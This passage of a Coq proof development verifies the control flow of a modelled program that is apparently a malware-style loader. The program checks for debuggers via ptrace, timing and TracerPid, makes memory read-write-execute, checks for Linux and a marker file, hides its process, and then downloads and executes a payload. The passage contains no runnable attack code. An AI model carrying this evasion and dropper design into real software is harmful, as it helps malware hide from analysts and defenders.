  unfold call_void, call, bind, log, _sm_check, ret. rewrite self_modify_eq.
  change (Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC) with PROT_RWX.
  cbn [_rk _key_ready _sm_flag n_malloc n_time n_fork n_mprotect ds_null written trace].
  destruct (os_mprotect o (n_mprotect s) PROT_RWX =? 0);
    cbn [_rk _key_ready _sm_flag n_malloc n_time n_fork n_mprotect ds_null written trace];
    rewrite ?F0; cbn [Z.eqb negb];
    (eexists; split; [reflexivity|]);
    (apply steps_fields; [exact K|reflexivity|reflexivity|cbn; lia..]).
Qed.

Lemma pass_check_os (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    one_pass ST_CHECK_OS rv sen o s
    = Ret (Goto (if (os_uname o =? 0) && os_malloc o (n_malloc s)
                    && bool_decide (os_sysname o = bytes "Linux")
                 then ST_CHECK_MARKER else ST_EXIT_FAIL) rv) s'
    /\ steps s s' (if os_uname o =? 0 then 1 else 0) 0 0.
Proof.
  intros K.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if (os_uname o =? 0) && os_malloc o (n_malloc s)
                  && bool_decide (os_sysname o = bytes "Linux") then 1 else 0)
              (if os_uname o =? 0 then 1 else 0) 0 0 false
              (dispatch_check_os rv sen)) as (s1 & s' & E & _ & St & _).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct (check_os_exact o s0 K0) as (s1 & E & St).
    destruct S0 as (_ & _ & _ & M0 & _). rewrite M0 in E. by exists s1. }
  exists s'. rewrite E. split; [|exact St]. rewrite opaque_false_0.
  by destruct (_ && _ && _).
Qed.

Lemma pass_check_marker (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    one_pass ST_CHECK_MARKER rv sen o s
    = Ret (Goto (if os_malloc o (n_malloc s)
                    && (os_stat o (bytes "/tmp/ghost_shell.c") =? 0)
                 then ST_EXIT_FAIL else ST_HIDE_PROC) rv) s'
    /\ steps s s' 1 0 0.
Proof.
  intros K.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if os_malloc o (n_malloc s)
                  && (os_stat o (bytes "/tmp/ghost_shell.c") =? 0) then 1 else 0)
              1 0 0 false
              (dispatch_check_marker rv sen)) as (s1 & s' & E & _ & St & _).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct (check_marker_exact o s0 K0) as (s1 & E & St).
    destruct S0 as (_ & _ & _ & M0 & _). rewrite M0 in E. by exists s1. }
  exists s'. rewrite E. split; [|exact St].
  by destruct (_ && _).
Qed.

Lemma pass_hide_proc (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s', one_pass ST_HIDE_PROC rv sen o s = Ret (Goto ST_DOWNLOAD rv) s'
    /\ steps s s' 1 0 0.
Proof.
  intros K. unfold one_pass, bind at 1. unfold log at 1.
  change (dispatch ST_HIDE_PROC rv sen)
    with (call_void F_hide_proc _hide_proc ;;; ret (Goto ST_DOWNLOAD rv)).
  unfold call_void, bind, log, ret.
  match goal with |- context [_hide_proc o ?s0] =>
    assert (same_but_trace s s0) as S0 by (by repeat split);
    destruct (hide_proc_exact o s0 (same_but_trace_good _ _ S0 K)) as (s1 & -> & St)
  end.
  eexists. split; [reflexivity|].
  eapply (same_but_trace_steps s _ s1); [exact S0|exact St|by repeat split].
Qed.

Lemma pass_download (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s -> os_fork o (n_fork s) <> 0 ->
  exists s',
    one_pass ST_DOWNLOAD rv sen o s
    = Ret (Goto (if allocs_ok o (n_malloc s) 5 && negb (os_fork o (n_fork s) <? 0)
                    && exited_ok (os_waitpid o (os_fork o (n_fork s)))
                 then ST_EXEC else ST_EXIT_FAIL) rv) s'
    /\ steps s s' 5 0 (if allocs_ok o (n_malloc s) 5 then 1 else 0).
Proof.
  intros K Hf.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if allocs_ok o (n_malloc s) 5 && negb (os_fork o (n_fork s) <? 0)
                  && exited_ok (os_waitpid o (os_fork o (n_fork s)))
               then 0 else -1)
              5 0 (if allocs_ok o (n_malloc s) 5 then 1 else 0) false
              (dispatch_download rv sen)) as (s1 & s' & E & _ & St & _).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct S0 as (_ & _ & _ & M0 & _ & F0 & _).
    destruct (download_exact o s0 K0) as (s1 & E & St); [by rewrite F0|].
    rewrite M0, F0 in E. rewrite M0 in St. by exists s1. }
  exists s'. rewrite E. split; [|exact St].
  by destruct (_ && _ && _).
Qed.

Lemma pass_exec (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s -> os_fork o (n_fork s) <> 0 ->
  exists s',
    one_pass ST_EXEC rv sen o s
    = Ret (Goto ST_EXIT_OK
             (if allocs_ok o (n_malloc s) 3 && negb (os_fork o (n_fork s) <? 0)
                 && exited_ok (os_waitpid o (os_fork o (n_fork s)))
              then 0 else rv)) s'
    /\ steps s s' 3 0 (if allocs_ok o (n_malloc s) 3 then 1 else 0).
Proof.
  intros K Hf.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if allocs_ok o (n_malloc s) 3 && negb (os_fork o (n_fork s) <? 0)
                  && exited_ok (os_waitpid o (os_fork o (n_fork s)))
               then 0 else -1)
              3 0 (if allocs_ok o (n_malloc s) 3 then 1 else 0) false
              (dispatch_exec rv sen)) as (s1 & s' & E & _ & St & _).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct S0 as (_ & _ & _ & M0 & _ & F0 & _).
    destruct (exec_payload_exact o s0 K0) as (s1 & E & St); [by rewrite F0|].
    rewrite M0, F0 in E. rewrite M0 in St. by exists s1. }
  exists s'. rewrite E. split; [|exact St].
  by destruct (_ && _ && _).
Qed.

Lemma pass_exit (fuel : nat) (st rv sen : Z) (o : oracle) (s : pstate) :
  key_good s -> st = ST_EXIT_OK \/ st = ST_EXIT_FAIL ->
  exists s',
    main_loop (S fuel) st rv sen o s
    = Some (Ret (if st =? ST_EXIT_OK then rv else 1) s')
    /\ steps s s' 0 0 0.
Proof.
  intros K [-> | ->]; (eexists; split; [reflexivity|]);
    (apply steps_fields; [exact K|reflexivity|reflexivity|cbn; lia..]).
Qed.

(** ** The whole run *)

Lemma key_good_init : key_good init_pstate.
Proof. split; [reflexivity|left; reflexivity]. Qed.

(** The end of a run that has made [dm] allocations, [dt] clock readings
    and [df] forks since [main] started. *)
Lemma run_ends (fuel : nat) (st rv sen : Z) (o : oracle) (s : pstate)
    (dm dt df : nat) :
  steps init_pstate s dm dt df ->
  st = ST_EXIT_OK \/ st = ST_EXIT_FAIL ->
  (dm <= 13)%nat -> (dt <= 2)%nat -> (df <= 2)%nat ->
  exists s',
    main_loop (S fuel) st rv sen o s
    = Some (Ret (if st =? ST_EXIT_OK then rv else 1) s')
    /\ key_good s'
    /\ (n_malloc s' <= 13)%nat /\ (n_time s' <= 2)%nat /\ (n_fork s' <= 2)%nat.
Proof.
  intros St Hst Hm Ht Hf.
  destruct (pass_exit fuel st rv sen o s (steps_key_good _ _ _ _ _ St) Hst)
    as (s' & E & St').
  exists s'. split; [exact E|].
  destruct St as (_ & M & T & F). destruct St' as (K & M' & T' & F').
  cbn [init_pstate n_malloc n_time n_fork] in M, T, F.
  split; [exact K|]. repeat split; lia.
Qed.

Ltac ends St st :=
  match goal with
  | |- exists s', main_loop (S ?fuel) _ ?rv ?sen ?o ?s = _ /\ _ =>
      exact (run_ends fuel st rv sen o s _ _ _ St
               ltac:(first [left; reflexivity | right; reflexivity])
               ltac:(lia) ltac:(lia) ltac:(lia))
  end.

(** The whole run of [main], in the process it was started in. *)
Lemma main_outcome (o : oracle) :
  parent o ->
  exists s',
    main 12 o = Some (Ret (if succeeds o then 0 else 1) s')
    /\ key_good s'
    /\ (n_malloc s' <= 13)%nat /\ (n_time s' <= 2)%nat /\ (n_fork s' <= 2)%nat.
Proof.
  intros P. unfold main, getpid. set (sen := os_getpid o).
  pose proof (steps_refl _ key_good_init) as St0.
  unfold succeeds, clear_ptrace, clear_timing, clear_proc, self_checked, on_linux,
    not_marked, fetched, executed.
  (* ST_INIT *)
  destruct (pass_init 1 sen o init_pstate key_good_init) as (s1 & E1 & St1 & F1).
  rewrite (main_loop_goto 11 _ _ _ _ _ s1 _ _ E1). clear E1.
  (* ST_ANTI_DEBUG_1 *)
  destruct (pass_ad_ptrace 1 sen o s1 (steps_key_good _ _ _ _ _ St1))
    as (s2 & E2 & St2' & F2).
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St1 St2' eq_refl eq_refl eq_refl) as St2;
    cbn [Nat.add] in St2.
  rewrite (main_loop_goto 10 _ _ _ _ _ s2 _ _ E2). clear E2.
  destruct (os_ptrace o PTRACE_TRACEME =? -1); cbn [negb andb]; [ends St2 ST_EXIT_FAIL|].
  (* ST_ANTI_DEBUG_2 *)
  destruct (pass_ad_timing 1 sen o s2 (steps_key_good _ _ _ _ _ St2))
    as (s3 & E3 & St3' & F3).
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St2 St3' eq_refl eq_refl eq_refl) as St3;
    cbn [Nat.add] in St3.
  replace (n_time s2) with 0%nat in E3 by (by destruct St2 as (_ & _ & -> & _)).
  rewrite (main_loop_goto 9 _ _ _ _ _ s3 _ _ E3). clear E3.
  destruct (500000 <? _); cbn [negb andb]; [ends St3 ST_EXIT_FAIL|].
  (* ST_ANTI_DEBUG_3 *)
  destruct (pass_ad_proc 1 sen o s3 (steps_key_good _ _ _ _ _ St3))
    as (s4 & E4 & St4' & F4).
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St3 St4' eq_refl eq_refl eq_refl) as St4;
    cbn [Nat.add] in St4.
  replace (n_malloc s3) with 0%nat in E4 by (by destruct St3 as (_ & -> & _)).
  rewrite (main_loop_goto 8 _ _ _ _ _ s4 _ _ E4). clear E4.
  destruct (_ =? 0); cbn [negb andb]; [|ends St4 ST_EXIT_FAIL].
  (* ST_SELF_MODIFY *)
  destruct (same_flag_trans _ _ _ (same_flag_trans _ _ _ (same_flag_trans _ _ _ F1 F2) F3) F4)
    as [Fl Pl].
  destruct (pass_self_modify 1 sen o s4 (steps_key_good _ _ _ _ _ St4) Fl)
    as (s5 & E5 & St5').
  rewrite Pl in E5. cbn [init_pstate n_mprotect] in E5.
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St4 St5' eq_refl eq_refl eq_refl) as St5;
    cbn [Nat.add] in St5.
  rewrite (main_loop_goto 7 _ _ _ _ _ s5 _ _ E5). clear E5.
  destruct (os_mprotect o _ _ =? 0); cbn [negb andb]; [|ends St5 ST_EXIT_FAIL].
  (* ST_CHECK_OS *)
  destruct (pass_check_os 1 sen o s5 (steps_key_good _ _ _ _ _ St5))
    as (s6 & E6 & St6').
  replace (n_malloc s5) with 2%nat in E6 by (by destruct St5 as (_ & -> & _)).
  rewrite (main_loop_goto 6 _ _ _ _ _ s6 _ _ E6). clear E6.
  destruct (os_uname o =? 0); cbn [negb andb];
    (pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St5 St6' eq_refl eq_refl eq_refl) as St6;
     cbn [Nat.add] in St6); [|ends St6 ST_EXIT_FAIL].
  destruct (os_malloc o 2 && _); cbn [negb andb]; [|ends St6 ST_EXIT_FAIL].
  (* ST_CHECK_MARKER *)
  destruct (pass_check_marker 1 sen o s6 (steps_key_good _ _ _ _ _ St6))
    as (s7 & E7 & St7').
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St6 St7' eq_refl eq_refl eq_refl) as St7;
    cbn [Nat.add] in St7.
  replace (n_malloc s6) with 3%nat in E7 by (by destruct St6 as (_ & -> & _)).
  rewrite (main_loop_goto 5 _ _ _ _ _ s7 _ _ E7). clear E7.
  destruct (os_malloc o 3 && _); cbn [negb andb]; [ends St7 ST_EXIT_FAIL|].
  (* ST_HIDE_PROC *)
  destruct (pass_hide_proc 1 sen o s7 (steps_key_good _ _ _ _ _ St7))
    as (s8 & E8 & St8').
  pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St7 St8' eq_refl eq_refl eq_refl) as St8;
    cbn [Nat.add] in St8.
  rewrite (main_loop_goto 4 _ _ _ _ _ s8 _ _ E8). clear E8.
  (* ST_DOWNLOAD *)
  destruct (pass_download 1 sen o s8 (steps_key_good _ _ _ _ _ St8) (P _))
    as (s9 & E9 & St9').
  replace (n_malloc s8) with 5%nat in E9, St9' by (by destruct St8 as (_ & -> & _)).
  replace (n_fork s8) with 0%nat in E9 by (by destruct St8 as (_ & _ & _ & ->)).
  rewrite (main_loop_goto 3 _ _ _ _ _ s9 _ _ E9). clear E9.
  destruct (allocs_ok o 5 5); cbn [negb andb];
    (pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St8 St9' eq_refl eq_refl eq_refl) as St9;
     cbn [Nat.add] in St9); [|ends St9 ST_EXIT_FAIL].
  destruct (negb (os_fork o 0 <? 0) && _); cbn [negb andb]; [|ends St9 ST_EXIT_FAIL].
  (* ST_EXEC *)
  destruct (pass_exec 1 sen o s9 (steps_key_good _ _ _ _ _ St9) (P _))
    as (s10 & E10 & St10').
  replace (n_malloc s9) with 10%nat in E10, St10' by (by destruct St9 as (_ & -> & _)).
  replace (n_fork s9) with 1%nat in E10 by (by destruct St9 as (_ & _ & _ & ->)).
  rewrite (main_loop_goto 2 _ _ _ _ _ s10 _ _ E10). clear E10.
  destruct (allocs_ok o 10 3); cbn [negb andb];
    (pose proof (steps_trans _ _ _ _ _ _ _ _ _ _ _ _ St9 St10' eq_refl eq_refl eq_refl)
       as St10; cbn [Nat.add] in St10).
  - destruct (negb (os_fork o 1 <? 0) && _); ends St10 ST_EXIT_OK.
  - ends St10 ST_EXIT_OK.
Qed.

(** ** End to end; the timing probe; the scan *)



(** X17.  In the process [main] was started in, a run returns after at
    most 13 allocations, 2 clock readings and 2 forks, with the key buffer
    at its size and the key either untouched or correctly recovered. *)
Theorem run_resources (o : oracle) :
  parent o ->
  exists c s',
    main 12 o = Some (Ret c s')
    /\ (n_malloc s' <= 13)%nat /\ (n_time s' <= 2)%nat /\ (n_fork s' <= 2)%nat
    /\ length (_rk s') = 14%nat
    /\ (_key_ready s' = 0 \/ _rk s' = recovered_key).
Proof.
  intros P. destruct (main_outcome o P) as (s' & E & [W K] & M & T & F).
  by eexists _, s'.
Qed.

Lemma run_resources_witness :
  exists c s',
    main 12 os_fetch_fails = Some (Ret c s')
    /\ (n_malloc s' <= 13)%nat /\ (n_time s' <= 2)%nat /\ (n_fork s' <= 2)%nat
    /\ length (_rk s') = 14%nat
    /\ (_key_ready s' = 0 \/ _rk s' = recovered_key).
Proof. apply (run_resources os_fetch_fails). intros n. simpl. lia. Defined.

Lemma wrap_s64_small (x : Z) : - 2 ^ 63 <= x < 2 ^ 63 -> wrap_s64 x = x.
Proof. intros H. unfold wrap_s64. rewrite Z.mod_small; lia. Qed.

(** X18.  For clock readings less than [2^40] seconds apart with
    microseconds in [0..999999], [_ad_timing] returns 1 exactly when the
    second reading is more than 500000 microseconds after the first, and
    reads the clock twice. *)
Theorem ad_timing_threshold (o : oracle) (s : pstate) :
  let t1 := os_gettimeofday o (n_time s) in
  let t2 := os_gettimeofday o (S (n_time s)) in
  - 2 ^ 40 < tv_sec t2 - tv_sec t1 < 2 ^ 40 ->
  0 <= tv_usec t1 < 1000000 -> 0 <= tv_usec t2 < 1000000 ->
  exists s',
    _ad_timing o s
    = Ret (if 500000 <? (tv_sec t2 - tv_sec t1) * 1000000 + (tv_usec t2 - tv_usec t1)
           then 1 else 0) s'
    /\ n_time s' = S (S (n_time s)) /\ trace s' = trace s.
Proof.
  intros t1 t2 Hs H1 H2. unfold _ad_timing, bind, gettimeofday. cbn [n_time].
  fold t1 t2.
  rewrite (wrap_s64_small (tv_sec t2 - tv_sec t1)) by lia.
  rewrite (wrap_s64_small (tv_usec t2 - tv_usec t1)) by lia.
  rewrite (wrap_s64_small ((tv_sec t2 - tv_sec t1) * 1000000)) by lia.
  rewrite wrap_s64_small by lia.
  destruct (500000 <? _); by eexists.
Qed.

Lemma ad_timing_threshold_witness :
  exists s',
    _ad_timing os_single_stepped init_pstate
    = Ret (if 500000 <? (tv_sec (os_gettimeofday os_single_stepped 1)
                         - tv_sec (os_gettimeofday os_single_stepped 0)) * 1000000
                        + (tv_usec (os_gettimeofday os_single_stepped 1)
                           - tv_usec (os_gettimeofday os_single_stepped 0))
           then 1 else 0) s'
    /\ n_time s' = 2%nat /\ trace s' = trace init_pstate.
Proof.
  apply (ad_timing_threshold os_single_stepped init_pstate); simpl; lia.
Defined.

(** X19.  The scan of the status file skips the lines that do not contain
    the needle, gives 0 when no line does, and is decided by the first line
    that does (0 or 1), whatever follows it. *)
Theorem scan_status_first_match (pre post : list (list Z)) (line needle : list Z) :
  Forall (fun l => strstr l needle = false) pre ->
  (scan_status pre needle = 0)
  /\ (strstr line needle = true ->
      scan_status (pre ++ line :: post) needle = scan_status [line] needle
      /\ (scan_status [line] needle = 0 \/ scan_status [line] needle = 1))
  /\ (strstr line needle = false ->
      scan_status (pre ++ line :: post) needle = scan_status post needle).
Proof.
  intros Hpre. induction Hpre as [|l pre Hl Hpre IH].
  - split; [reflexivity|]. cbn [app scan_status]. split.
    + intros ->. split; [reflexivity|].
      destruct (strchr line 58) as [[|? p]|]; try (by left).
      destruct (negb _); [by right|by left].
    + by intros ->.
  - cbn [app scan_status]. rewrite Hl. exact IH.
Qed.

Lemma scan_status_first_match_witness :
  (scan_status [bytes "Name: x"] (bytes "TracerPid") = 0)
  /\ (strstr (bytes "TracerPid:  77") (bytes "TracerPid") = true ->
      scan_status ([bytes "Name: x"] ++ bytes "TracerPid:  77" :: [bytes "TracerPid: 0"])
                  (bytes "TracerPid")
      = scan_status [bytes "TracerPid:  77"] (bytes "TracerPid")
      /\ (scan_status [bytes "TracerPid:  77"] (bytes "TracerPid") = 0
          \/ scan_status [bytes "TracerPid:  77"] (bytes "TracerPid") = 1))
  /\ (strstr (bytes "TracerPid:  77") (bytes "TracerPid") = false ->
      scan_status ([bytes "Name: x"] ++ bytes "TracerPid:  77" :: [bytes "TracerPid: 0"])
                  (bytes "TracerPid")
      = scan_status [bytes "TracerPid: 0"] (bytes "TracerPid")).
Proof.
  apply (scan_status_first_match [bytes "Name: x"] [bytes "TracerPid: 0"]
           (bytes "TracerPid:  77") (bytes "TracerPid")).
  repeat constructor.
Defined.

(** [atoi] is [(int) strtol]: 2^64 becomes [LONG_MAX], which is -1 as an
    [int]; -(2^63 + 1) becomes [LONG_MIN], which is 0 as an [int]; 2^32 fits
    [long] and is 0 as an [int]. *)
Example atoi_out_of_range :
  atoi (bytes "18446744073709551616") = -1
  /\ atoi (bytes "-9223372036854775809") = 0
  /\ atoi (bytes "4294967296") = 0
  /\ atoi (bytes "  -12abc") = -12
  /\ scan_status [bytes "TracerPid: 18446744073709551616"] (bytes "TracerPid") = 1
  /\ scan_status [bytes "TracerPid: -9223372036854775809"] (bytes "TracerPid") = 0.
Proof. vm_compute. repeat split. Qed.

Example scan_examples :
  scan_status [bytes "TracerPid: 0"] (bytes "TracerPid") = 0
  /\ scan_status [bytes "Name: x"; bytes "TracerPid: 4711"; bytes "TracerPid: 0"]
       (bytes "TracerPid") = 1
  /\ scan_status [bytes "TracerPid 12"] (bytes "TracerPid") = 0
  /\ scan_status [bytes "NoTracerPid: 5"] (bytes "TracerPid") = 1.
Proof. vm_compute. repeat split. Qed.

